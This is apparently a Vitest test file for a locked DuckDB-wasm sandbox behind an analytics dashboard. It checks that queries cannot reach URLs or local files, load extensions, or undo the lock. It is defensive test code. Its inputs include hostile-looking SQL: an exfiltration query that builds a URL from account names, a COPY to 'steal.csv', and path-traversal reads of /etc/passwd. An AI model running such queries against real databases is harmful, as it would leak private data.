import { createServer, type Server } from "node:http";
import type { DuckDBConnection } from "@duckdb/duckdb-wasm/blocking";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fixture, fixtureAsOf } from "../test-support/fixture.js";
import { openWasmDb, wasmIpc, wasmRows } from "../test-support/wasm.js";
import { allTables, loadWorkspace } from "./load.js";
import { copyWorkspace, createMetricViews, dashboardMetrics, setMetricParams } from "./metrics.js";
import { droppedFilePath, lockDown } from "./sandbox.js";

/*
 * The locked configuration on duckdb-wasm (the browser's engine, Node build): one test per way
 * SQL could reach outside this device's copy of the data. A local HTTP server stands in for "any
 * URL" and counts what reaches it; nothing must. DuckDB refuses with a Permission Error naming
 * the path (Node's duckdb-wasm has no HTTP client of its own, so the error kind is what shows the
 * configuration, not the missing request; the browser test checks the request in real Chromium).
 */

let server: Server;
let base = "";
const hits: string[] = [];
let db: Awaited<ReturnType<typeof openWasmDb>>["db"];
let conn: DuckDBConnection;

beforeAll(async () => {
  server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.end('{"user":{"id":"u1","name":"Ada"}}\n');
  });
  await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok));
  base = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  ({ db, conn } = await openWasmDb());
  await lockDown(conn, { allowedPaths: [droppedFilePath] });
  await loadWorkspace(conn, fixture);
  await createMetricViews(conn);
});

afterAll(async () => {
  conn?.close();
  await new Promise((ok) => server.close(ok));
});

const run = (sql: string) => wasmRows(conn, sql);
const refused = (sql: string) => {
  expect(() => run(sql)).toThrow();
  try {
    run(sql);
  } catch (err) {
    return (err as Error).message;
  }
  return "";
};
const FILES_OFF = /Permission Error: Cannot access (file|directory) ".*" - file system operations are disabled/;
const LOCKED = /the configuration has been locked/;

describe("reads from a URL are refused", () => {
  it("read_text of the app's own /api/session", () => {
    expect(refused(`SELECT * FROM read_text('${base}/api/session')`)).toMatch(FILES_OFF);
  });
  it("read_csv, read_blob and sniff_csv of an http(s) URL", () => {
    expect(refused(`SELECT * FROM read_csv('${base}/x.csv')`)).toMatch(FILES_OFF);
    expect(refused(`SELECT * FROM read_csv_auto('https://example.com/x.csv')`)).toMatch(FILES_OFF);
    expect(refused(`SELECT * FROM read_blob('${base}/x')`)).toMatch(FILES_OFF);
    expect(refused(`SELECT * FROM sniff_csv('${base}/x.csv')`)).toMatch(FILES_OFF);
  });
  it("a URL as a table name (replacement scan)", () => {
    refused(`SELECT * FROM '${base}/x.csv'`);
  });
  it("a URL built from the data (the exfiltration a shared query would do)", () => {
    refused(`SELECT * FROM read_text('${base}/?names=' || (SELECT string_agg(name, ',') FROM accounts))`);
    refused(`SELECT * FROM read_text(['${base}/a', '${base}/b'])`);
  });
  it("local files other than the dropped-file slot, and path tricks around it", () => {
    expect(refused("SELECT * FROM read_text('/etc/passwd')")).toMatch(FILES_OFF);
    expect(refused(`SELECT * FROM read_text('${droppedFilePath}/../../etc/passwd')`)).toMatch(FILES_OFF);
    expect(refused(`SELECT * FROM read_text('${droppedFilePath}/./../../etc/passwd')`)).toMatch(FILES_OFF);
    expect(refused("SELECT * FROM read_text('/dropped/./../etc/passwd')")).toMatch(FILES_OFF);
    expect(refused("SELECT * FROM glob('*')")).toMatch(FILES_OFF);
  });
});

describe("extensions, attached databases and writes are refused", () => {
  it("LOAD httpfs (also after INSTALL from a URL), and LOAD of a URL", () => {
    run(`INSTALL httpfs FROM '${base}/'`); // a no-op in duckdb-wasm: extensions are fetched by LOAD
    expect(refused("LOAD httpfs")).toMatch(/Loading external extensions is disabled/);
    expect(refused(`LOAD '${base}/httpfs.duckdb_extension.wasm'`)).toMatch(/Loading external extensions is disabled/);
  });
  it("a function of an extension that is not loaded is not fetched on demand", () => {
    expect(refused(`SELECT * FROM read_json('${base}/x.json')`)).toMatch(/json extension/);
    expect(refused(`SELECT * FROM read_parquet('${base}/x.parquet')`)).toMatch(/parquet extension/);
  });
  it("ATTACH of a URL or a file", () => {
    expect(refused(`ATTACH '${base}/x.db' AS remote`)).toMatch(FILES_OFF);
    expect(refused("ATTACH 'x.db' AS local")).toMatch(FILES_OFF);
  });
  it("COPY ... TO a URL or a file, COPY FROM a URL, EXPORT DATABASE", () => {
    expect(refused(`COPY (SELECT name FROM accounts) TO '${base}/steal.csv'`)).toMatch(FILES_OFF);
    expect(refused("COPY accounts TO 'accounts.csv'")).toMatch(FILES_OFF);
    expect(refused(`COPY accounts FROM '${base}/x.csv'`)).toMatch(FILES_OFF);
    expect(refused(`EXPORT DATABASE '${base}/dump'`)).toMatch(FILES_OFF);
  });
});

describe("the configuration cannot be set back", () => {
  it.each([
    "SET enable_external_access = true",
    "SET GLOBAL enable_external_access = true",
    "SET SESSION enable_external_access = true",
    "RESET enable_external_access",
    "SET lock_configuration = false",
    "RESET lock_configuration",
    "SET allowed_paths = ['/etc/passwd']",
    "SET allowed_directories = ['/']",
    "SET autoload_known_extensions = true",
    "SET disabled_filesystems = ''",
  ])("%s", (sql) => {
    expect(refused(sql)).toMatch(LOCKED);
  });
  it("on a new connection too", () => {
    const other = db.connect();
    expect(() => other.query("SET enable_external_access = true")).toThrow(LOCKED);
    expect(wasmRows(other, "SELECT current_setting('enable_external_access')").rows).toEqual([[false]]);
    other.close();
  });
});

describe("what must keep working", () => {
  it("a dropped CSV registered at the allowed path reads; the slot is empty once dropped", () => {
    db.registerFileBuffer(droppedFilePath, new TextEncoder().encode("account_id,target\r\nA,5000\r\nD,7000\r\n"));
    expect(run(`SELECT * FROM read_csv_auto('${droppedFilePath}') ORDER BY target`).rows).toEqual([
      ["A", 5000],
      ["D", 7000],
    ]);
    db.dropFile(droppedFilePath);
    refused(`SELECT * FROM read_csv_auto('${droppedFilePath}')`);
  });
  it("a file registered anywhere else does not read", () => {
    db.registerFileBuffer("/dropped/other.csv", new TextEncoder().encode("a\n1\n"));
    expect(refused("SELECT * FROM read_csv_auto('/dropped/other.csv')")).toMatch(FILES_OFF);
    db.dropFile("/dropped/other.csv");
  });
  it("loading tables (Arrow), the metric views and their parameters", async () => {
    await setMetricParams(conn, { asOf: fixtureAsOf, churnDays: 90 });
    expect(run("SELECT count(*) FROM accounts").rows).toEqual([[6]]);
    expect(run("SELECT round(avg_order_value, 2) FROM metric_cltv").rows).toEqual([[455]]);
  });
});

describe("copyWorkspace: the console's own database", () => {
  it("holds the same tables and figures, and its changes never reach the source", async () => {
    const target = await openWasmDb();
    await lockDown(target.conn);
    await copyWorkspace({ queryIpc: (sql) => wasmIpc(conn, sql) }, target.conn);
    const both = (sql: string) => [run(sql).rows, wasmRows(target.conn, sql).rows];
    for (const spec of allTables) {
      const [a, b] = both(`SELECT * FROM ${spec.name} ORDER BY ALL`);
      expect(b, spec.name).toEqual(a);
      // Declared SQL types, not whatever Arrow round-tripped to.
      const [ta, tb] = both(
        `SELECT column_name, data_type FROM information_schema.columns WHERE table_name = '${spec.name}' ORDER BY ordinal_position`,
      );
      expect(tb, spec.name).toEqual(ta);
    }
    for (const m of dashboardMetrics) {
      const [a, b] = both(`SELECT * FROM ${m.id} ORDER BY ALL`);
      expect(b, m.id).toEqual(a);
    }
    expect(wasmRows(target.conn, "SELECT strftime(as_of, '%Y-%m-%d'), churn_days FROM metric_params").rows).toEqual([
      [fixtureAsOf, 90],
    ]);

    const before = run("SELECT * FROM metric_cltv").rows;
    for (const sql of [
      "DELETE FROM accounts",
      "UPDATE orders SET total = 0",
      "DROP VIEW churn_risk",
      "CREATE OR REPLACE VIEW metric_cltv AS SELECT 1 AS nonsense",
      "DROP TABLE order_lines",
      "UPDATE metric_params SET churn_days = 1",
    ]) {
      target.conn.query(sql);
    }
    expect(wasmRows(target.conn, "SELECT count(*) FROM accounts").rows).toEqual([[0]]);
    expect(run("SELECT count(*) FROM accounts").rows).toEqual([[6]]);
    expect(run("SELECT * FROM metric_cltv").rows).toEqual(before);
    expect(run("SELECT count(*) FROM churn_risk").rows[0]?.[0]).toBeGreaterThan(0);
    expect(run("SELECT churn_days FROM metric_params").rows).toEqual([[90]]);
    target.conn.close();
  });

  it("copies empty tables with their columns", async () => {
    const empty = await openWasmDb();
    await loadWorkspace(empty.conn, {});
    await createMetricViews(empty.conn);
    const target = await openWasmDb();
    await copyWorkspace({ queryIpc: (sql) => wasmIpc(empty.conn, sql) }, target.conn);
    expect(wasmRows(target.conn, "SELECT count(*) FROM orders").rows).toEqual([[0]]);
    expect(wasmRows(target.conn, "SELECT * FROM metric_cltv").columns).toContain("cltv");
  });
});

it("no request reached the HTTP server", () => {
  expect(hits).toEqual([]);
});
